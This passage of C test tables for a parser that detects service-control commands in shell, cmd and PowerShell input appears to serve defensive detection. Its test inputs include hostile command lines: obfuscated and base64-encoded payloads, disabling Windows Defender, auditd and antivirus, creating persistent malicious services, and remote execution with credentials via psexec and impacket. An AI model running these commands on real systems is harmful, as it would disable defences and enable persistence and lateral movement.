    {"systemctl stop a &>/dev/null", "systemctl stop a"},
    {">/tmp/x systemctl stop a", "systemctl stop a"},
    {"2>/dev/null systemctl stop a", "systemctl stop a"},
    {"systemctl stop a # systemctl stop b", "systemctl stop a"},
    {"# systemctl stop b", NULL},
    {"systemctl stop a#b", "systemctl stop a#b"},
    {"FOO=1 BAR=2 systemctl stop a", "systemctl stop a"},
    {"export X=1; systemctl stop a", "systemctl stop a"},
    {"S=systemctl; $S stop a", "systemctl stop a"},
    {"S=systemctl; \"$S\" stop a", "systemctl stop a"},
    {"S=\"systemctl stop\"; $S a", "systemctl stop a"},
    {"U=a; systemctl stop $U ${U}.timer", "systemctl stop a a.timer"},
    {"cat <<EOF > /etc/systemd/system/x.service\nExecStart=systemctl stop a\nEOF\nsystemctl enable x",
     "systemctl enable x"},
    {"cat <<'EOF'\nsystemctl stop a\nEOF", NULL},
    {"cat <<-EOF\n\tsystemctl stop a\n\tEOF\nsystemctl stop b", "systemctl stop b"},
    {"bash <<EOF\nsystemctl stop a\nEOF", "systemctl stop a <bash"},
    {"bash <<< \"systemctl stop a\"", "systemctl stop a <bash"},
    {"sudo bash -s <<EOF\nsystemctl stop a\nEOF", "systemctl stop a <sudo <bash"},
    {"ssh db1 <<EOF\nsystemctl stop a\nEOF", "systemctl stop a @db1 <ssh"},
    {"echo systemctl stop a | sh", "systemctl stop a <sh"},
    {"echo \"systemctl stop a\" | sudo bash", "systemctl stop a <sudo <bash"},
    {"echo -n systemctl stop a | sh", "systemctl stop a <sh"},
    {"echo -e 'systemctl\\x20stop a' | sh", "systemctl stop a <sh"},
    {"echo -ne 'systemctl\\x20stop a' | sh", "systemctl stop a <sh"},
    {"echo -n 'systemctl\\x20stop a' | sh", NULL},
    {"echo 'systemctl\\x20stop a' | sh", NULL},
    {"printf 'systemctl\\x20stop a' | sh", "systemctl stop a <sh"},
    {"printf 'systemctl\\040stop a' | sh", "systemctl stop a <sh"},
    {"printf '\\163ystemctl stop a' | sh", "systemctl stop a <sh"},
    {"printf '\\x73ystemctl stop a' | sh", "systemctl stop a <sh"},
    {"echo 'systemctl stop a' | tee /tmp/x", NULL},
    {"printf '%s' 'systemctl stop a' | sh", "systemctl stop a <sh"},
    {"echo \"systemctl stop a\" | base64", NULL},
    {"systemctl stop a |& tee log", "systemctl stop a"},
    {"echo 'systemctl stop a'", NULL},
    {"printf \"systemctl stop a\"", NULL},
    {"sed -i 's/x/y/' /etc/systemd/system/a.service && systemctl daemon-reload",
     "systemctl daemon-reload"},
    {"coproc systemctl stop a", "systemctl stop a"},
    {"[ -f /x ] && systemctl stop a", "systemctl stop a"},
    {"[[ $(systemctl is-active a) == active ]] && echo up", "systemctl is-active a"},
    {"systemctl stop \"a\" 'b' c\\ d", "systemctl stop a b c d"},
    {"\"systemctl\" \"stop\" \"a\"", "systemctl stop a"},
    {"'/bin/systemctl' stop a", "systemctl stop a"},
};

static const struct expectation hidden[] = {
    {"sys''temctl stop a", "systemctl stop a !"},
    {"sys\"\"temctl stop a", "systemctl stop a !"},
    {"s\\ystemctl stop a", "systemctl stop a !"},
    {"\\systemctl stop a", "systemctl stop a"},
    {"systemctl st\"o\"p a", "systemctl stop a !"},
    {"sys$@temctl stop a", "systemctl stop a !"},
    {"system$*ctl stop a", "systemctl stop a !"},
    {"systemctl${IFS}stop${IFS}a", "systemctl stop a !"},
    {"systemctl$IFS'stop'$IFS'a'", "systemctl stop a !"},
    {"systemctl$IFS$9stop$IFS$9a", "systemctl stop a !"},
    {"a=sys;b=temctl;$a$b stop a", "systemctl stop a !"},
    {"a=system; ${a}ctl stop a", "systemctl stop a !"},
    {"{systemctl,stop,a}", "systemctl stop a !"},
    {"$'systemctl' stop a", "systemctl stop a"},
    {"$'\\x73\\x79stemctl' stop a", "systemctl stop a !"},
    {"$'\\163ystemctl' stop a", "systemctl stop a !"},
    {"/\?\?\?/bin/systemctl stop a", "systemctl stop a"},
    {"sys${x}temctl stop a", "systemctl stop a !"},
    {"echo c3lzdGVtY3RsIHN0b3AgeA== | base64 -d | sh", "systemctl stop x <sh !"},
    {"echo c3lzdGVtY3RsIHN0b3AgeA== | base64 --decode | sudo bash",
     "systemctl stop x <sudo <bash !"},
    {"base64 -d <<< c3lzdGVtY3RsIHN0b3AgeA== | bash", "systemctl stop x <bash !"},
    {"echo c3lzdGVtY3RsIHN0b3AgeA== | base64 -d", NULL},
    {"n^et st^op a", "net stop a !"},
    {"\"n\"et stop a", "net stop a !"},
    {"s^c.e^xe stop a", "sc stop a !"},
    {"cmd /c \"s^c stop a\"", "sc stop a <cmd !"},
    {"set a=s&&set b=c&&call %a%%b% stop foo", "sc stop foo <call !"},
    {"cmd /V:ON /c \"set x=sc&&!x! stop a\"", "sc stop a <cmd"},
    {"& ('s'+'c.exe') stop a", "sc stop a !"},
    {"& \"sc.exe\" stop a", "sc stop a"},
    {"&('Stop-'+'Service') a", "powershell Stop-Service a !"},
    {"St`op-Ser`vice a", "powershell Stop-Service a !"},
    {"$c='sc.exe'; & $c stop a", "sc stop a"},
    {"powershell -enc UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB4AA==",
     "powershell Stop-Service x <powershell !"},
    {"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB4AA==",
     "powershell Stop-Service x <powershell !"},
    {"powershell -e UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB4AA==",
     "powershell Stop-Service x <powershell !"},
    {"powershell /ec UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB4AA==",
     "powershell Stop-Service x <powershell !"},
    {"pwsh -EncodedC UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB4AA==",
     "powershell Stop-Service x <pwsh !"},
    {"cmd /c powershell -enc UwB0AG8AcAAtAFMAZQByAHYAaQBjAGUAIAB4AA==",
     "powershell Stop-Service x <cmd <powershell !"},
    {"powershell -enc ZQBjAGgAbwA=", NULL},
    {"powershell -ex bypass -File x.ps1", NULL},
};

static const struct expectation sc_and_net[] = {
    {"sc query", "sc query"},
    {"sc queryex type= service state= all", "sc queryex [type=service|state=all]"},
    {"sc stop WinDefend", "sc stop WinDefend"},
    {"SC.EXE STOP WinDefend", "sc stop WinDefend"},
    {"C:\\Windows\\System32\\sc.exe delete x", "sc delete x"},
    {"%SystemRoot%\\system32\\sc.exe start x", "sc start x"},
    {"sc \\\\web1 start x", "sc start x @web1"},
    {"sc.exe \\\\10.0.0.1 create evil binPath= \"cmd.exe /c calc\" start= demand",
     "sc create evil [binpath=cmd.exe /c calc|start=demand] @10.0.0.1"},
    {"sc create evil binPath=\"C:\\Windows\\Temp\\a.exe\"",
     "sc create evil [binpath=C:\\Windows\\Temp\\a.exe]"},
    {"sc create evil binpath= c:\\Program Files\\a b\\c.exe type= own start= auto obj= LocalSystem DisplayName= \"Good Name\"",
     "sc create evil [binpath=c:\\Program Files\\a b\\c.exe|type=own|start=auto|obj=LocalSystem|displayname=Good Name]"},
    {"sc config x binPath= \"C:\\x.exe\" obj= \".\\LocalSystem\" password= \"\"",
     "sc config x [binpath=C:\\x.exe|obj=.\\LocalSystem|password=]"},
    {"sc config WinDefend start= disabled", "sc config WinDefend [start=disabled]"},
    {"sc failure x reset= 0 actions= run/1000 command= \"C:\\x.exe -a\"",
     "sc failure x [reset=0|actions=run/1000|command=C:\\x.exe -a]"},
    {"sc failureflag x 1", "sc failureflag x [1]"},
    {"sc description x \"Nice service\"", "sc description x [Nice service]"},
    {"sc sdset scmanager D:(A;;KA;;;WD)", "sc sdset scmanager [D:(A;;KA;;;WD)]"},
    {"sc sdset x D:(D;;DCLCWPDTSD;;;IU)(A;;CC;;;SY)",
     "sc sdset x [D:(D;;DCLCWPDTSD;;;IU)(A;;CC;;;SY)]"},
    {"sc sdshow scmanager", "sc sdshow scmanager"},
    {"sc triggerinfo x start/networkon", "sc triggerinfo x [start/networkon]"},
    {"sc qc x", "sc qc x"},
    {"sc control x 130", "sc control x [130]"},
    {"sc privs x SeDebugPrivilege", "sc privs x [SeDebugPrivilege]"},
    {"sc sidtype x unrestricted", "sc sidtype x [unrestricted]"},
    {"sc getdisplayname x", "sc getdisplayname x"},
    {"sc frobnicate x", NULL},
    {"sc", NULL},
    {"sc file.txt", NULL},
    {"sc -h", NULL},
    {"net start", "net start"},
    {"net start x", "net start x"},
    {"net.exe stop \"Windows Defender Antivirus Service\" /y",
     "net stop Windows Defender Antivirus Service [/y]"},
    {"net1 stop x", "net stop x"},
    {"C:\\WINDOWS\\SYSTEM32\\NET1 start MSSQL$RADAR /m", "net start MSSQL$RADAR [/m]"},
    {"net pause x", "net pause x"},
    {"net continue x", "net continue x"},
    {"net stop windows defender", "net stop windows defender"},
    {"net use Z: \\\\h\\c$", NULL},
    {"net user bob pw /add", NULL},
    {"net view", NULL},
    {"net localgroup administrators bob /add", NULL},
    {"net rpc service start x -S web1 -U u%p", "net start x [-S|web1|-U|u%p] @web1"},
    {"net rpc service list -S web1", "net list [-S|web1] @web1"},
    {"net rpc share list", NULL},
    {"net statistics server", NULL},
    {"nssm install evil C:\\x.exe -a", "nssm install evil [C:\\x.exe|-a]"},
    {"nssm.exe start evil", "nssm start evil"},
};

static const struct expectation wmic_and_reg[] = {
    {"wmic service list brief", "wmic list [brief]"},
    {"wmic service get name,pathname", "wmic get [name,pathname]"},
    {"wmic service where name=\"x\" call stopservice", "wmic stopservice x"},
    {"wmic service where (name=\"x\") call startservice", "wmic startservice x"},
    {"wmic service where \"name='x'\" call changestartmode Disabled",
     "wmic changestartmode x [Disabled]"},
    {"wmic service where \"name like '%def%'\" delete", "wmic delete %def%"},
    {"wmic service x call stopservice", "wmic stopservice x"},
    {"wmic /node:web1 /user:a /password:b service where name='x' call startservice",
     "wmic startservice x [/node:web1|/user:a|/password:b] @web1"},
    {"wmic service call create DisplayName=\"x\",Name=\"x\",PathName=\"c:\\x.exe\"",
     "wmic create [DisplayName=x,Name=x,PathName=c:\\x.exe]"},
    {"wmic path win32_service where name=\"x\" call stopservice", "wmic stopservice x"},
    {"wmic process call create \"sc stop x\"", "sc stop x <wmic"},
    {"wmic /node:web1 process call create \"cmd.exe /c net stop x\"",
     "net stop x @web1 <wmic <cmd"},
    {"wmic process list", NULL},
    {"wmic os get caption", NULL},
    {"reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\x /v ImagePath /t REG_EXPAND_SZ /d C:\\x.exe /f",
     "reg add x [key=HKLM\\SYSTEM\\CurrentControlSet\\Services\\x|/v=ImagePath|/t=REG_EXPAND_SZ|/d=C:\\x.exe|/f]"},
    {"reg.exe add \"HKLM\\SYSTEM\\ControlSet001\\Services\\x\\Parameters\" /v ServiceDll /d C:\\x.dll",
     "reg add x [key=HKLM\\SYSTEM\\ControlSet001\\Services\\x\\Parameters|/v=ServiceDll|/d=C:\\x.dll]"},
    {"reg add \\\\web1\\HKLM\\SYSTEM\\CurrentControlSet\\Services\\x /v Start /t REG_DWORD /d 4",
     "reg add x [key=\\\\web1\\HKLM\\SYSTEM\\CurrentControlSet\\Services\\x|/v=Start|/t=REG_DWORD|/d=4] @web1"},
    {"reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\x /f",
     "reg delete x [key=HKLM\\SYSTEM\\CurrentControlSet\\Services\\x|/f]"},
    {"reg query HKLM\\SYSTEM\\CurrentControlSet\\Services",
     "reg query [key=HKLM\\SYSTEM\\CurrentControlSet\\Services]"},
    {"reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\x /s",
     "reg query x [key=HKLM\\SYSTEM\\CurrentControlSet\\Services\\x|/s]"},
    {"reg import c:\\x.reg", "reg import c:\\x.reg"},
    {"reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\x c:\\x.reg",
     "reg export x [key=HKLM\\SYSTEM\\CurrentControlSet\\Services\\x|c:\\x.reg]"},
    {"reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe", NULL},
    {"reg add HKCU\\Software\\Services\\x /v y", NULL},
    {"reg save HKLM\\SYSTEM c:\\x", NULL},
    {"reg", NULL},
};

static const struct expectation psexec[] = {
    {"psexec \\\\web1 cmd", "psexec run cmd [command=cmd] @web1 ~"},
    {"psexec \\\\web1 -u a -p b -s cmd.exe /c whoami",
     "psexec run cmd.exe [-u=a|-p=b|-s|command=cmd.exe /c whoami] @web1 ~"},
    {"PsExec64.exe -accepteula -i -s cmd",
     "psexec run cmd [-accepteula|-i|-s|command=cmd] ~"},
    {"psexec -i 1 -d \\\\web1 C:\\x.exe",
     "psexec run C:\\x.exe [-i=1|-d|command=C:\\x.exe] @web1 ~"},
    {"psexec @hosts.txt -c x.exe", "psexec run x.exe [-c|command=x.exe] @@hosts.txt ~"},
    {"psexec \\\\a,b,c ipconfig", "psexec run ipconfig [command=ipconfig] @a,b,c ~"},
    {"psexec \\\\web1 -r evilsvc cmd", "psexec run evilsvc [-r=evilsvc|command=cmd] @web1 ~"},
    {"C:\\Tools\\PsExec.exe /accepteula \\\\web1 sc stop x",
     "psexec run sc [/accepteula|command=sc stop x] @web1 ~ ; sc stop x @web1 <psexec"},
    {"psexec \\\\web1 \"cmd /c net stop x\"",
     "psexec run cmd /c net stop x [command=cmd /c net stop x] @web1 ~ ; net stop x @web1 <psexec <cmd"},
    {"paexec \\\\web1 -s cmd", "paexec run cmd [-s|command=cmd] @web1 ~"},
    {"csexec \\\\web1 cmd", "csexec run cmd [command=cmd] @web1 ~"},
    {"remcom \\\\web1 cmd", "remcom run cmd [command=cmd] @web1 ~"},
    {"xcmd \\\\web1 cmd", "xcmd run cmd [command=cmd] @web1 ~"},
    {"winexe -U a%b //web1 \"cmd /c sc stop x\"",
     "winexe run cmd /c sc stop x [-U=a%b|command=cmd /c sc stop x] @web1 ~ ; sc stop x @web1 <winexe <cmd"},
    {"psexec.py corp/a:b@10.0.0.1", "psexec.py run @10.0.0.1 ~"},
    {"psexec.py -hashes :31d6 corp/a@10.0.0.1 whoami",
     "psexec.py run whoami [-hashes=:31d6|command=whoami] @10.0.0.1 ~"},
    {"impacket-psexec a:b@10.0.0.1 'cmd /c sc stop x'",
     "psexec.py run cmd /c sc stop x [command=cmd /c sc stop x] @10.0.0.1 ~ ; sc stop x @10.0.0.1 <psexec.py <cmd"},
    {"smbexec.py corp/a:b@10.0.0.1", "smbexec.py run @10.0.0.1 ~"},
    {"services.py corp/a:b@10.0.0.1 create -name evil -display evil -path 'C:\\x.exe'",
     "services.py create evil [-name=evil|-display=evil|-path=C:\\x.exe] @10.0.0.1"},
    {"services.py a@10.0.0.1 start -name evil",
     "services.py start evil [-name=evil] @10.0.0.1"},
    {"psexec", NULL},
    {"psexec -?", NULL},
    {"C:\\Users\\Public\\psexecprivesc.exe C:\\x.exe", NULL},
    {"cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef", "getsystem run ~"},
    {"%COMSPEC% /C echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\x.bat & %COMSPEC% /C C:\\x.bat",
     "smbexec run ~"},
    {"C:\\Windows\\system32\\cmd.exe /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat & C:\\Windows\\system32\\cmd.exe /Q /c C:\\Windows\\TEMP\\execute.bat & del C:\\Windows\\TEMP\\execute.bat",
     "smbexec run ~"},
};

static const struct expectation powershell[] = {
    {"Get-Service", "powershell Get-Service"},
    {"Get-Service WinDefend", "powershell Get-Service WinDefend"},
    {"gsv x", "powershell Get-Service x"},
    {"Get-Service -ComputerName web1 x",
     "powershell Get-Service x [-ComputerName=web1] @web1"},
    {"New-Service -Name evil -BinaryPathName \"C:\\x.exe\" -StartupType Automatic",
     "powershell New-Service evil [-Name=evil|-BinaryPathName=C:\\x.exe|-StartupType=Automatic]"},
    {"New-Service evil C:\\x.exe", "powershell New-Service evil [-BinaryPathName=C:\\x.exe]"},
    {"Set-Service -Name x -StartupType Disabled -Status Stopped",
     "powershell Set-Service x [-Name=x|-StartupType=Disabled|-Status=Stopped]"},
    {"Start-Service x", "powershell Start-Service x"},
    {"sasv x", "powershell Start-Service x"},
    {"Stop-Service -Name a,b -Force", "powershell Stop-Service a b [-Name=a,b|-Force]"},
    {"Stop-Service -Force a, b", "powershell Stop-Service a b [-Force]"},
    {"spsv x", "powershell Stop-Service x"},
    {"Restart-Service x -Verbose", "powershell Restart-Service x [-Verbose]"},
    {"Suspend-Service x", "powershell Suspend-Service x"},
    {"Resume-Service x", "powershell Resume-Service x"},
    {"Remove-Service -Name x", "powershell Remove-Service x [-Name=x]"},
    {"Stop-Service -DisplayName \"Windows Defender*\"",
     "powershell Stop-Service Windows Defender* [-DisplayName=Windows Defender*]"},
    {"Get-Service x | Stop-Service -Force",
     "powershell Get-Service x ; powershell Stop-Service x [-Force]"},
    {"Get-Service a,b | Set-Service -StartupType Disabled",
     "powershell Get-Service a b ; powershell Set-Service a b [-StartupType=Disabled]"},
    {"(Get-Service x).Stop()", "powershell Get-Service x ; powershell Stop x"},
    {"Get-Service x | % { $_.Stop() }", "powershell Get-Service x ; powershell Stop x"},
    {"$s = Get-Service x; $s.Stop()", "powershell Get-Service x ; powershell Stop x"},
    {"$s = \"x\"; Stop-Service $s", "powershell Stop-Service x"},
    {"Stop-Service x; Start-Service y",
     "powershell Stop-Service x ; powershell Start-Service y"},
    {"if (Get-Service x) { Stop-Service x }",
     "powershell Get-Service x ; powershell Stop-Service x"},
    {"Invoke-Command -ComputerName web1 -ScriptBlock { Stop-Service x }",
     "powershell Stop-Service x @web1 <invoke-command"},
    {"Invoke-Command -ScriptBlock { Stop-Service x } -ComputerName", "powershell Stop-Service x"},
    {"Invoke-Command -ComputerName { Stop-Service x }", "powershell Stop-Service x"},
    {"icm web1 { Stop-Service x }", "powershell Stop-Service x @web1 <icm"},
    {"Start-Process sc.exe -ArgumentList 'stop x' -Verb RunAs", "sc stop x <start-process"},
    {"Start-Process -FilePath \"net.exe\" -ArgumentList \"stop\",\"x\" -WindowStyle Hidden",
     "net stop x <start-process"},
    {"iex \"sc.exe stop x\"", "sc stop x <iex"},
    {"Invoke-Expression 'Stop-Service x'", "powershell Stop-Service x <invoke-expression"},
    {"sc.exe stop x", "sc stop x"},
    {"Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x' -Name Start -Value 4",
     "powershell Set-ItemProperty x [-Path=HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x|-Name=Start|-Value=4|key=HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x]"},
    {"sp HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x Start 4",
     "powershell Set-ItemProperty x [HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x|Start|4|key=HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x]"},
    {"New-Item -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\evil",
     "powershell New-Item evil [-Path=HKLM:\\SYSTEM\\CurrentControlSet\\Services\\evil|key=HKLM:\\SYSTEM\\CurrentControlSet\\Services\\evil]"},
    {"Remove-Item HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x -Recurse",
     "powershell Remove-Item x [HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x|-Recurse|key=HKLM:\\SYSTEM\\CurrentControlSet\\Services\\x]"},
    {"Set-ItemProperty -Path HKLM:\\SOFTWARE\\x -Name y -Value 1", NULL},
    {"Get-WmiObject Win32_Service -Filter \"name='x'\"",
     "powershell Get-WmiObject x [Win32_Service|-Filter=name='x']"},
    {"(Get-WmiObject Win32_Service -Filter \"name='x'\").StopService()",
     "powershell Get-WmiObject x [Win32_Service|-Filter=name='x'] ; powershell StopService x"},
    {"Invoke-CimMethod -ClassName Win32_Service -MethodName Create -Arguments @{Name='x'}",
     "powershell Create x [-ClassName=Win32_Service|-MethodName=Create|-Arguments=@{Name='x'}]"},
    {"Get-WmiObject Win32_Process", NULL},
    {"powershell Stop-Service x", "powershell Stop-Service x <powershell"},
    {"powershell -Command \"Stop-Service x\"", "powershell Stop-Service x <powershell"},
    {"powershell.exe -nop -c \"& {Stop-Service x}\"", "powershell Stop-Service x <powershell"},
    {"powershell -command \"Get-Service \"seg104\" | select -Expand DisplayName |out-file -append tmp.txt\"",
     "powershell Get-Service seg104 <powershell"},
    {"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c Stop-Service x",
     "powershell Stop-Service x <powershell"},
    {"pwsh -Command 'Stop-Service x'", "powershell Stop-Service x <pwsh"},
    {"Write-Host \"Stop-Service x\"", NULL},
    {"Get-Help Stop-Service", NULL},
    {"Get-Command sc", NULL},
    {"# Stop-Service x", NULL},
    {"<# Stop-Service x #> Start-Service y", "powershell Start-Service y"},
    {"\"sc.exe stop x\" | cmd", NULL},
    {"Microsoft.PowerShell.Management\\Stop-Service x", "powershell Stop-Service x"},
};

static const struct expectation cmd[] = {
    {"cmd /c sc stop x", "sc stop x <cmd"},
    {"cmd.exe /C \"sc stop x\"", "sc stop x <cmd"},
    {"\"C:\\Windows\\system32\\cmd.exe\" /c \"sc.exe create a binPath= C:\\b\\AtomicService.exe\"",
     "sc create a [binpath=C:\\b\\AtomicService.exe] <cmd"},
    {"cmd /c \"C:\\Program Files\\a b\\PsExec.exe\" \\\\web1 cmd",
     "psexec run cmd [command=cmd] @web1 <cmd ~"},
    {"cmd /q /c net stop x & sc delete x", "net stop x <cmd ; sc delete x <cmd"},
    {"cmd /s /c \"net stop x && sc delete x\"", "net stop x <cmd ; sc delete x <cmd"},
    {"cmd /k sc query", "sc query <cmd"},
    {"cmd /csc stop x", "sc stop x <cmd"},
    {"cmd /c start /b sc stop x", "sc stop x <cmd <start"},
    {"start \"\" /min sc.exe stop x", "sc stop x <start"},
    {"start sc stop x", "sc stop x <start"},
    {"call sc stop x", "sc stop x <call"},
    {"if exist C:\\x (sc stop y) else (sc start y)", "sc stop y ; sc start y"},
    {"if not errorlevel 1 sc stop x", "sc stop x"},
    {"if \"%1\"==\"a\" sc stop x", "sc stop x"},
    {"for %i in (a b) do sc stop %i", "sc stop a ; sc stop b"},
    {"for /f \"tokens=2\" %i in (x.txt) do @sc stop %i", "sc stop %i"},
    {"@sc stop x >nul 2>&1", "sc stop x"},
    {"sc stop x || net stop x", "sc stop x ; net stop x"},
    {"echo sc stop x", NULL},
    {"echo sc stop x | cmd", "sc stop x <cmd"},
    {"sc create a binPath= C:\\Program Files (x86)\\a.exe",
     "sc create a [binpath=C:\\Program Files (x86)\\a.exe]"},
    {"schtasks /create /tn x /tr \"sc start evil\" /sc daily", "sc start evil <schtasks"},
    {"schtasks /create /tn x /tr notepad.exe", NULL},
    {"runas /user:adm \"sc stop x\"", "sc stop x <runas"},
    {"winrs -r:web1 net stop x", "net stop x @web1 <winrs"},
    {"forfiles /p c:\\ /m *.exe /c \"cmd /c sc stop x\"", "sc stop x <forfiles <cmd"},
    {"cmd", NULL},
    {"C:\\Program Files\\PSTools\\PsExec.exe \\\\web1 cmd",
     "psexec run cmd [command=cmd] @web1 ~"},
    {"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", NULL},
    {"C:\\Windows\\System32\\services.exe", NULL},
};

static const struct expectation nothing[] = {
    {"cat systemctl.txt", NULL},
    {"man systemctl", NULL},
    {"man sc", NULL},
    {"echo systemctl start x", NULL},
    {"grep systemctl /var/log/syslog", NULL},
    {"grep -r \"systemctl enable\" /etc", NULL},
    {"which systemctl", NULL},
    {"which sc", NULL},
    {"type systemctl", NULL},
    {"whereis systemctl", NULL},
    {"apropos systemctl", NULL},
    {"vim /etc/systemd/system/x.service", NULL},
    {"less /usr/bin/systemctl", NULL},
    {"ls -l /bin/systemctl", NULL},
    {"rpm -qf /bin/systemctl", NULL},
    {"dpkg -S systemctl", NULL},
    {"alias s=systemctl", NULL},
    {"journalctl -u ssh", NULL},
    {"systemd-analyze blame", NULL},
    {"git commit -m \"systemctl stop x\"", NULL},
    {"git log --grep='service restart'", NULL},
    {"tail -f service.log", NULL},
    {"vim service", NULL},
    {"cd service", NULL},
    {"npm start", NULL},
    {"npm run stop", NULL},
    {"docker service ls", NULL},
    {"./start", NULL},
    {"python3 -m service start", NULL},
    {"curl http://x/systemctl", NULL},
    {"./systemctl.sh start x", NULL},
    {"mysystemctl start x", NULL},
    {"systemctl-helper start x", NULL},
    {"tar xf net.tgz", NULL},
    {"ping net", NULL},
    {"dig reg", NULL},
    {"less sc", NULL},
    {"rm sc", NULL},
    {"mkdir start stop", NULL},
    {"printf 'net stop\n'", NULL},
    {"ssh sc", NULL},
    {"make service", NULL},
    {"helm start", NULL},
    {"apt install service", NULL},
    {"locate launchctl", NULL},
    {"file /bin/launchctl", NULL},
    {"launchctl.py load x", NULL},
    {"Select-String systemctl x.log", NULL},
    {"echo \"a; systemctl stop b\"", NULL},
    {"echo 'a $(systemctl stop b)'", NULL},
    {"echo a \\; systemctl stop b", NULL},
    {"tee systemctl", NULL},
    {"awk '/systemctl stop/ {print}' x", NULL},
    {"sed -n '/sc stop/p' x", NULL},
    {"find . -name 'systemctl*'", NULL},
    {"test -x /bin/systemctl", NULL},
    {"[ -x /bin/systemctl ]", NULL},
    {"chmod +x systemctl", NULL},
    {"history | grep systemctl", NULL},
    {":", NULL},
};

#define EIGHT(text) text text text text text text text text

static const struct expectation field[] = {
    {"sc.exe create AtomicTestService_CMD binPath= \"%COMSPEC% /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt\"",
     "sc create AtomicTestService_CMD [binpath=cmd.exe /c powershell.exe -nop -w hidden -command New-Item -ItemType File C:\\art-marker.txt]"},
    {"sc.exe \\\\localhost create AtomicTestService_CMD binPath= \"C:\\a\\b.exe\" start=auto type=Own",
     "sc create AtomicTestService_CMD [binpath=C:\\a\\b.exe|start=auto|type=Own] @localhost"},
    {"\"C:\\Users\\a\\AppData\\Local\\Temp\\PsExec.exe\" \\\\localhost -i -u DOM\\a -p pw -accepteula \"C:\\Windows\\System32\\calc.exe\"",
     "psexec run C:\\Windows\\System32\\calc.exe [-i|-u=DOM\\a|-p=pw|-accepteula|command=C:\\Windows\\System32\\calc.exe] @localhost ~"},
    {"sc config Fax binPath= \"C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c \\\"write-host 'T1543.003 Test'\\\"\"",
     "sc config Fax [binpath=C:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -noexit -c \"write-host 'T1543.003 Test'\"]"},
    {"copy a.dll C:\\Windows\\System32\\ & sc create W64Time binPath= \"c:\\Windows\\System32\\svchost.exe -k TimeService\" type= share start=auto & sc config W64Time DisplayName= \"Windows 64 Time\" & reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Services\\W64Time\\Parameters\" /v ServiceDll /t REG_EXPAND_SZ /d \"%SystemRoot%\\System32\\w64time.dll\" /f & sc start W64Time",
     "sc create W64Time [binpath=c:\\Windows\\System32\\svchost.exe -k TimeService|type=share|start=auto] ; sc config W64Time [displayname=Windows 64 Time] ; reg add W64Time [key=HKLM\\SYSTEM\\CurrentControlSet\\Services\\W64Time\\Parameters|/v=ServiceDll|/t=REG_EXPAND_SZ|/d=%SystemRoot%\\System32\\w64time.dll|/f] ; sc start W64Time"},
    {"service cbdaemon stop; chkconfig off cbdaemon",
     "service stop cbdaemon ; chkconfig off cbdaemon"},
    {"if [ $(rpm -q --queryformat '%{VERSION}' centos-release) -eq \"6\" ]; then service rsyslog stop ; chkconfig off rsyslog; else systemctl stop rsyslog; systemctl disable rsyslog; fi",
     "service stop rsyslog ; chkconfig off rsyslog ; systemctl stop rsyslog ; systemctl disable rsyslog"},
    {"powershell.exe \"Get-Service | Where {$_.Name -like '*sql*'} | Stop-Service -Force\"",
     "powershell Get-Service <powershell ; powershell Stop-Service [-Force] <powershell"},
    {"wmic service where \"caption like '%sophos%'\" call stopservice",
     "wmic stopservice %sophos%"},
    {"for %s in (a b c) do net stop %s", "net stop a ; net stop b ; net stop c"},
    {"cmd.exe /c sc.exe stop x >NUL 2>&1", "sc stop x <cmd"},
    {"powershell -c \"foreach ($s in 'a','b') { Stop-Service $s }\"",
     "powershell Stop-Service a b <powershell"},
    {"C:\\Windows\\System32\\cmd.exe /c start powershell -w hidden -c \"Start-Service x\"",
     "powershell Start-Service x <cmd <start <powershell"},
    {"echo pw | sudo -S systemctl stop x", "systemctl stop x <sudo"},
    {"sudo -S systemctl stop x <<< pw", "systemctl stop x <sudo"},
    {"su -c \"systemctl stop x\" -s /bin/bash root", "systemctl stop x <su"},
    {"sudo bash -c 'cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/tmp/x\nEOF\nsystemctl enable --now x'",
     "systemctl enable x [--now] <sudo <bash"},
    {"nohup sh -c 'while true; do systemctl restart x; sleep 60; done' &",
     "systemctl restart x <nohup <sh"},
    {"TF=$(mktemp).service; sudo systemctl link $TF; sudo systemctl enable --now $TF",
     "systemctl link $(mktemp).service <sudo ; systemctl enable $(mktemp).service [--now] <sudo"},
    {"python3 -c 'import os; os.system(\"systemctl stop auditd\")'",
     "systemctl stop auditd <python3"},
    {"python3.11 -c \"import subprocess; subprocess.run(['systemctl', 'stop', 'auditd'])\"",
     "systemctl stop auditd <python3"},
    {"perl -e 'system(\"service auditd stop\")'", "service stop auditd <perl"},
    {"php -r \"exec('systemctl stop a');\"", "systemctl stop a <php"},
    {"python3 -c 'print(\"systemctl\")'", NULL},
    {"python3 systemctl.py stop x", NULL},
    {"systemctl {stop,disable} auditd", "systemctl stop disable auditd"},
